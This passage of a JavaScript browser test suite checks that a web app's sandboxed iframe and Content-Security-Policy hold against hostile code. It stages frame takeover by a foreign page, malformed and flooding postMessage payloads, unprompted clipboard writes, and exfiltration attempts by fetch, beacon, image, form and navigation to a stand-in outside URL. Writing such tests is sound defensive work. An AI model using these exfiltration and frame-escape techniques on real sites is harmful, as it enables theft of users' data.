        `<iframe style="width: 1200px; height: 700px" src="${server.address}function.html#code=${deflateRawSync(HEAD + WRONG).toString('base64url')}"></iframe><script>
        const leaks = []; function leak(data) { leaks.push(data.type); }
        let isSent = false;
        const timer = setInterval(() => {
            const inner = frames[0];
            if (!inner.length) return;
            if (!isSent) { isSent = true; inner[0].location = 'about:blank'; return; }
            let own = null;
            try { own = inner[0].document; } catch { return; }
            clearInterval(timer);
            const frame = own.createElement('iframe');
            frame.srcdoc = '<script>' + ${JSON.stringify(partner)} + '</' + 'script>';
            own.body.append(frame);
        }, 20);</script>`));
    await new Promise(resolve => others.listen(0, '127.0.0.1', resolve));
    const page = await browser.newPage();
    await page.setViewport({width: 1280, height: 800});
    await page.goto(`http://127.0.0.1:${others.address().port}/`);
    const inside = await until('the page', async () => page.frames().find(frame => frame.url().startsWith(server.address + 'function.html')), 60);
    await until('its script', () => inside.evaluate(() => document.documentElement?.dataset.opened === 'yes'));
    await inside.click('#judge');
    const words = await until('an answer', async () => {
        const said = await inside.$eval('#status', status => status.textContent);
        return !/^This code|^Loading|^Asking/.test(said) && said;
    }, 120);
    check(/window of its own/.test(words), 'it says ' + words);
    check((await page.evaluate(() => leaks)).length === 0, 'it handed out ' + await page.evaluate(() => leaks));
    await page.close();
    others.close();
});

// ---- Through the frame: what the page takes, if all walls before it had fallen

suite.add('the page reads what the frame sends by a schema', async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    const result = await page.evaluate(async () => {
        const {readMessage} = await import(document.querySelector('script').src.replace('start.js', 'trial.js'));
        const bad = [null, 1, 'judged', {}, {type: 'toString'}, {type: '__proto__'}, {type: 'saved', name: 'x', bytes: 1}, {type: 'state', state: {palette: 'light'}}, {type: 'state', palette: 'x'.repeat(4e6)},
            {type: 'state', palette: 'pink'}, {type: 'judged', asked: '1', of: 1, findings: null}, {type: 'judged', asked: 1, of: 1, findings: [{}]}, {type: 'judged', asked: NaN, of: 1, findings: []},
            {type: 'judged', asked: 1, of: 1, findings: Array(1000).fill({fixed: true, degenerate: false, pair: '', words: '', call: ''})}, {type: 'judged', asked: 1, of: 1, findings: [{fixed: true, pair: 'x'.repeat(1e6), degenerate: false, words: '', call: ''}]},
            {type: 'says', line: -1, words: ''}, {type: 'says', line: 1, words: {}}, {type: 'refused', reason: 'x'.repeat(1e6)}, {type: 'copied', text: 'x'.repeat(1e6)}];
        const good = {type: 'says', line: 1, words: 'x\u202e\u2800\ty', more: 'y'};
        return {taken: bad.filter(message => readMessage(message)).map(message => JSON.stringify(message).slice(0, 60)), good: readMessage(good)};
    });
    check(result.taken.length === 0, 'it takes ' + result.taken);
    check(JSON.stringify(result.good) === '{"type":"says","line":1,"words":"x y"}', 'it reads ' + JSON.stringify(result.good));
    await page.close();
});

// The frame's own document, as if it had fallen to the code.
const inFrame = async (page, run, argument) => (await page.$('#picture iframe')).contentFrame().then(frame => frame.childFrames()[0].evaluate(run, argument));

suite.add('the clipboard takes nothing without a press of the viewer', async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    await page.evaluate(() => { // browsers refuse some writes themselves
        window.copied = [];
        Object.defineProperty(navigator, 'clipboard', {value: {writeText: async text => { window.copied.push(text); }}});
    });
    // What the driver runs counts as a press, which is recent for five seconds.
    await inFrame(page, () => { setTimeout(() => { parent.parent.postMessage({type: 'copied', text: 'evil'}, '*'); window.sent = true; }, 6500); });
    await wait(10000); // asking before would count as a press too
    await until('the message', () => inFrame(page, () => window.sent));
    await wait(300);
    check((await page.evaluate(() => window.copied)).length === 0, 'the clipboard was written');
    await page.click('#findings button');
    await page.click('#picture iframe');
    await page.keyboard.down('Control');
    await page.keyboard.press('c');
    await page.keyboard.up('Control');
    const [text] = await until('a case', async () => { const all = await page.evaluate(() => window.copied); return all.length > 0 && all; });
    check(/^aabb .* \| aabb /.test(text), 'it copies ' + text);
    await page.close();
});

suite.add('a flood of messages ends the frame, and the page lives', async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    // The next trial begins in the same second.
    await page.evaluate(() => { const now = performance.now(); performance.now = () => now; });
    await inFrame(page, () => { for (let i = 0; i < 20000; i++) parent.parent.postMessage({type: 'state', palette: 'light'}, '*'); });
    await says(page, /too many messages/);
    check(!await page.$('#picture iframe'), 'the frame is still there');
    await page.click('#judge');
    await says(page, /pairs asked/);
    await page.close();
});

suite.add('after a message that cannot be read there is no verdict', async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    await inFrame(page, () => {
        parent.parent.postMessage({type: 'unknown'}, '*');
        parent.parent.postMessage({type: 'judged', asked: 1, of: 200000, findings: [{fixed: false, pair: 'aabb'}]}, '*');
        parent.parent.postMessage({type: 'judged', asked: 200000, of: 200000, notJudged: 0, refused: 0, tolerated: 0, tolerance: 0, findings: []}, '*');
    });
    await says(page, /cannot be read/);
    check(!await page.$('#picture iframe'), 'the frame is still there');
    await page.close();
});

suite.add('in a page of another site the frame runs what that sends, but not with the origin of this one', async browser => {
    const others = createServer((request, response) => response.writeHead(200, {'Content-Type': 'text/html'}).end(
        `<iframe src="${FRAME}" onload="for (const to of [frames[0], frames[0][0]]) to.postMessage({type: 'judge', plain: '', source: {module: new ArrayBuffer(8)},
            program: {wasm: new ArrayBuffer(8), files: [], script: 'self.postMessage({type: \\'refused\\', reason: self.origin})'}}, '*')"></iframe>
        <script>const got = []; onmessage = ({data, origin}) => got.push({...data, origin});</script>`.replaceAll("\\'", '`')));
    await new Promise(resolve => others.listen(0, '127.0.0.1', resolve));
    const page = await browser.newPage();
    await page.goto(`http://127.0.0.1:${others.address().port}/`);
    await until('an answer', () => page.evaluate(() => got.some(({type}) => type === 'refused')), 60);
    const got = await page.evaluate(() => got);
    check(got.every(({origin, reason = 'null'}) => origin === 'null' && reason === 'null'), 'it says ' + JSON.stringify(got));
    await page.close();
    others.close();
});

suite.add("the frame's policy stops what a script in it would do", async browser => {
    const page = await opened(browser, HEAD + WRONG);
    await found(page);
    await inFrame(page, out => {
        const acts = [
            () => fetch(out + 'fetch').catch(() => {}), () => { new Image().src = out + 'image'; }, () => navigator.sendBeacon(out + 'beacon'),
            () => { const script = document.createElement('script'); script.src = out + 'script'; document.body.append(script); },
            () => { const script = document.createElement('script'); script.textContent = `fetch('${out}inline')`; document.body.append(script); },
            () => { const form = document.createElement('form'); form.action = out + 'form'; document.body.append(form); form.submit(); },
            () => { const inner = document.createElement('iframe'); inner.src = out + 'frame'; document.body.append(inner); },
            () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = out + 'style'; document.head.append(link); },
            () => { top.location = out + 'top'; }, () => open(out + 'open'), () => { localStorage.x = 1; }, () => { document.cookie = 'x=1'; },
        ];
        for (const act of acts) try { act(); } catch { /* refused */ }
    }, OUT);
    await holds(page);
    await page.close();
});

// ---- The pages' own policies

for (const path of ['', 'function.html', 'article.html', 'point_on_line.html', 'javascript.html', 'scenes/41_obb.html', 'scenes/course.html', FRAME.slice(server.address.length)]) {
    suite.add('a policy on ' + (path || 'index.html'), async browser => {
        const page = await browser.newPage();
        await page.evaluateOnNewDocument(() => {
            window.violations = [];
            document.addEventListener('securitypolicyviolation', event => {
                if (!event.blockedURI.endsWith('/favicon.ico')) window.violations.push(event.violatedDirective + ' ' + event.blockedURI);
            });
        });
        await page.goto(server.address + path);
        const policy = await page.$eval('meta[http-equiv=Content-Security-Policy]', meta => meta.content);
        for (const part of ["default-src 'none'", 'script-src', "form-action 'none'", "base-uri 'none'"]) check(policy.includes(part), `${part} is missing: ${policy}`);
        check(path.endsWith('frame.html') || !/script-src[^;]*unsafe/.test(policy), 'scripts may be inline: ' + policy);
        await wait(2500);
        check((await page.evaluate(() => window.violations)).length === 0, 'in normal use: ' + await page.evaluate(() => window.violations));
        await page.evaluate(out => {
            fetch(out + 'fetch').catch(() => {});
            new Image().src = out + 'image';
            const script = document.createElement('script');
            script.src = out + 'script';
            document.body.append(script);
            const base = document.createElement('base');
            base.href = out;
            document.head.append(base);
            const inner = document.createElement('iframe');
            inner.src = out + 'frame';
            document.body.append(inner);
        }, OUT);
        await wait(500);
        check(arrived.length === 0, 'it went out: ' + arrived.splice(0));
        await page.close();
    });
}

await suite.run(() => launch(name), LANES);
server.close();
network.close();
suite.finish();
